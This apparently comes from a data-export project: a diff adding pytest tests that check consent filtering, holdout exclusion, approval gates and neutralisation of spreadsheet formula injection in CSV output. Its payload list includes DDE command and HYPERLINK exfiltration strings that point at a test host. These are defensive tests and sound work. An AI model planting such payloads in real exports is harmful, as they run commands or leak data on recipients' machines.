@@ -1,0 +1,267 @@
+"""What leaves the house: only the treated, only with consent today, and nothing that executes."""
+
+from __future__ import annotations
+
+import csv
+import io
+from datetime import date, timedelta
+from typing import Any
+
+import pandas as pd
+import pyarrow as pa
+import pyarrow.parquet as pq
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from small_shop import DAY, campaign, keys, make_shop
+
+from ml.campaigns.assignment import empty_ledger, in_global_holdout
+from ml.campaigns.cohorts import build_cohort
+from ml.campaigns.export import (
+    ExportRefusedError,
+    csv_bytes,
+    dry_run,
+    export_cohort,
+    guard,
+    unguard,
+)
+
+TRIGGERS = "=+-@|%＝＋－＠\t\r\n\0"
+PAYLOADS = [
+    prefix + body
+    for prefix in ("", " ", "\t", "\r\n", "\0", "\u200b", "\ufeff", "\u00a0 ")
+    for body in (
+        "=1+1",
+        "+1+1",
+        "-1+1",
+        "@SUM(A1)",
+        '=HYPERLINK("http://x.test?"&A1)',
+        "=cmd|' /C calc'!A0",
+        "|cmd",
+        "%0A=1",
+        "＝1+1",
+        "＋1",
+        "－1",
+        "＠SUM(1)",
+    )
+]
+
+
+def _read(data: bytes) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(data.decode(), newline="")))
+
+
+def _runs(cell: str) -> bool:
+    """An independent reading of the rule: does a spreadsheet see a formula here?"""
+    if cell and cell[0] in "\t\r\n\0":
+        return True
+    visible = cell.lstrip(
+        "".join(map(chr, range(33))) + "\u200b\u200c\u200d\u2060\ufeff\u00a0\u3000"
+    )
+    return visible[:1] in set("=+-@|%＝＋－＠")
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_known_payloads_are_disarmed(payload: str) -> None:
+    assert _runs(payload)
+    rows = _read(csv_bytes(pd.DataFrame({"name": [payload]})))
+    assert rows[1] == ["'" + payload]
+    assert unguard(rows[1][0]) == payload
+
+
+@settings(max_examples=200, deadline=None)
+@given(
+    st.lists(
+        st.one_of(
+            st.text(st.characters(exclude_categories=["Cs"])),
+            st.text("'" + TRIGGERS + " \u200ba", max_size=6),
+        ),
+        min_size=1,
+        max_size=5,
+    ),
+    st.text(st.characters(exclude_categories=["Cs"])),
+)
+def test_any_text_is_safe_and_comes_back(texts: list[str], header: str) -> None:
+    rows = _read(csv_bytes(pd.DataFrame({header: pd.Series(texts, dtype="object")})))
+    assert len(rows) == len(texts) + 1
+    assert not any(_runs(cell) for row in rows for cell in row)
+    assert [unguard(row[0]) for row in rows] == [header, *texts]
+
+
+@pytest.mark.parametrize(
+    "text", ["", "O'Brien", "'t Hooft", "Ada", "a=b", "1-2", "x@y.test", "'", "é"]
+)
+def test_harmless_text_is_left_alone(text: str) -> None:
+    assert guard(text) == text
+    assert unguard(text) == text
+
+
+def test_numbers_stay_numbers_and_missing_stays_empty() -> None:
+    frame = pd.DataFrame({"amount": [-5.5, 2.0], "count": [-1, 3], "text": ["-5", None]})
+    assert csv_bytes(frame) == (b'"amount","count","text"\r\n-5.5,-1,"\'-5"\r\n2.0,3,""\r\n')
+
+
+@pytest.fixture
+def arguments() -> dict[str, Any]:
+    """The arguments of an export of 200 customers in a campaign without holdout."""
+    shop = make_shop(200)
+    definition = campaign(target={}, global_holdout=0.0)
+    _, cohort = build_cohort(definition, *shop.frames, empty_ledger(), DAY)
+    names = [f"C{i}" for i in range(200)]
+    identities = pd.DataFrame(
+        {
+            "customer_key": keys(200),
+            "customer_id": names,
+            "email": [f"{name}@shop.test" for name in names],
+            "phone": [f"+49 30 {i:04d}" for i in range(200)],
+            "name": ["=1+1"] * 200,
+        }
+    )
+    return {
+        "campaign": definition,
+        "cohort": cohort,
+        "identities": identities,
+        "status": shop.status,
+        "export_date": DAY,
+    }
+
+
+def _export(arguments: dict[str, Any]) -> pd.DataFrame:
+    token = dry_run(**arguments).token
+    export = export_cohort(**arguments, approver="Ada Lovelace", token=token)
+    header, *rows = _read(export.csv)
+    assert len(rows) == export.dry_run.rows
+    table = pq.read_table(pa.BufferReader(export.parquet)).to_pandas()
+    assert list(table.columns) == header
+    assert [unguard(row[0]) for row in rows] == list(table["customer_id"])
+    return table
+
+
+def test_the_files_hold_the_treated_and_minimal_columns(arguments: dict[str, Any]) -> None:
+    table = _export(arguments)
+    assert list(table.columns) == ["customer_id", "email", "campaign_id", "arm", "play", "offer"]
+    cohort = arguments["cohort"]
+    assert len(table) == (cohort["arm"] == "reminder").sum() > 50
+    assert set(table["arm"]) == {"reminder"}
+    assert set(table["offer"]) == {"We miss you"}
+
+
+def test_the_same_selection_gives_the_same_bytes(arguments: dict[str, Any]) -> None:
+    token = dry_run(**arguments).token
+    first = export_cohort(**arguments, approver="Ada Lovelace", token=token)
+    for name in ("cohort", "identities", "status"):
+        arguments[name] = arguments[name].sample(frac=1, random_state=1)
+    second = export_cohort(**arguments, approver="ada lovelace ", token=token)
+    assert (first.csv, first.parquet) == (second.csv, second.parquet)
+
+
+def test_a_dry_run_shows_counts_and_no_identity(arguments: dict[str, Any]) -> None:
+    shown = repr(dry_run(**arguments))
+    assert "reminder" in shown
+    assert "shop.test" not in shown
+    assert not any(key in shown for key in keys(200))
+
+
+def test_consent_is_judged_on_the_day_of_the_export(arguments: dict[str, Any]) -> None:
+    treated = list(arguments["cohort"].query("arm == 'reminder'")["customer_key"])
+    later = DAY + timedelta(days=2)
+    status = arguments["status"].assign(snapshot_date=later)
+    status["has_email_consent"] = status["has_email_consent"].astype("object")
+    status.loc[status["customer_key"] == treated[0], "has_email_consent"] = False
+    status.loc[status["customer_key"] == treated[1], "has_email_consent"] = None
+    status = status[status["customer_key"] != treated[2]]
+    arguments |= {"status": status, "export_date": later}
+    assert dry_run(**arguments).dropped["no_consent"] == 3
+    assert len(_export(arguments)) == len(treated) - 3
+    arguments["export_date"] = DAY
+    with pytest.raises(ValueError, match="status is of another day"):
+        dry_run(**arguments)
+
+
+@settings(max_examples=15, deadline=None)
+@given(st.lists(st.sampled_from([True, False, None]), min_size=60, max_size=60))
+def test_nobody_without_consent_ever_leaves(consents: list[bool | None]) -> None:
+    shop = make_shop(60)
+    definition = campaign(target={}, global_holdout=0.0)
+    _, cohort = build_cohort(definition, *shop.frames, empty_ledger(), DAY)
+    identities = pd.DataFrame({"customer_key": keys(60), "customer_id": keys(60)})
+    identities["email"] = identities["customer_key"] + "@shop.test"
+    status = shop.status.assign(has_email_consent=pd.Series(consents, dtype="object"))
+    arguments = {
+        "campaign": definition,
+        "cohort": cohort,
+        "identities": identities,
+        "status": status,
+        "export_date": DAY,
+    }
+    allowed = {key for key, consent in zip(keys(60), consents, strict=True) if consent is True}
+    treated = set(cohort.query("arm == 'reminder'")["customer_key"])
+    assert set(_export(arguments)["customer_id"]) == allowed & treated
+
+
+def test_who_has_no_identity_or_no_address_or_a_second_account_is_dropped(
+    arguments: dict[str, Any],
+) -> None:
+    treated = list(arguments["cohort"].query("arm == 'reminder'")["customer_key"])
+    identities = arguments["identities"].set_index("customer_key")
+    identities.loc[treated[0], "email"] = None
+    identities.loc[treated[1], "email"] = "  "
+    identities.loc[treated[3], "email"] = identities.loc[treated[2], "email"].upper()
+    arguments["identities"] = identities.drop(treated[4]).reset_index()
+    dropped = dry_run(**arguments).dropped
+    assert (dropped["no_address"], dropped["duplicate_address"], dropped["no_identity"]) == (
+        2,
+        1,
+        1,
+    )
+    assert len(_export(arguments)) == len(treated) - 4
+
+
+def test_the_holdout_of_the_export_day_is_never_contacted(arguments: dict[str, Any]) -> None:
+    next_quarter = date(2025, 7, 1)
+    held = campaign(target={}, global_holdout=0.3)
+    shop = make_shop(200)
+    _, cohort = build_cohort(held, *shop.frames, empty_ledger(), DAY)
+    arguments |= {
+        "campaign": held,
+        "cohort": cohort,
+        "export_date": next_quarter,
+        "status": shop.status.assign(snapshot_date=next_quarter),
+    }
+    table = _export(arguments)
+    names = dict(zip(arguments["identities"]["customer_id"], keys(200), strict=True))
+    assert not in_global_holdout([names[i] for i in table["customer_id"]], next_quarter, 0.3).any()
+    assert dry_run(**arguments).dropped["global_holdout"] > 0
+
+
+@pytest.mark.parametrize("approver", ["", " ", "Somebody Else"])
+def test_an_export_needs_its_approver(arguments: dict[str, Any], approver: str) -> None:
+    token = dry_run(**arguments).token
+    with pytest.raises(ExportRefusedError, match="approved by Ada Lovelace"):
+        export_cohort(**arguments, approver=approver, token=token)
+
+
+def test_an_export_needs_a_dry_run_of_this_very_selection(arguments: dict[str, Any]) -> None:
+    token = dry_run(**arguments).token
+    arguments["status"] = arguments["status"].copy()
+    treated = arguments["cohort"].query("arm == 'reminder'")["customer_key"].iloc[0]
+    is_one = arguments["status"]["customer_key"] == treated
+    arguments["status"].loc[is_one, "has_email_consent"] = False
+    with pytest.raises(ExportRefusedError, match="make a dry run first"):
+        export_cohort(**arguments, approver="Ada Lovelace", token=token)
+
+
+def test_a_cohort_of_another_campaign_is_refused(arguments: dict[str, Any]) -> None:
+    arguments["cohort"] = arguments["cohort"].assign(campaign_id="another")
+    with pytest.raises(ValueError, match="other campaigns"):
+        dry_run(**arguments)
+
+
+@pytest.mark.parametrize(("channel", "address"), [("sms", "phone"), ("post", None)])
+def test_each_channel_gets_its_own_address_only(
+    arguments: dict[str, Any], channel: str, address: str | None
+) -> None:
+    definition = campaign(target={}, global_holdout=0.0, channel=channel)
+    arguments["campaign"] = definition
+    columns = ["customer_id", *([address] if address else []), "campaign_id"]
+    assert list(_export(arguments).columns)[: len(columns)] == columns
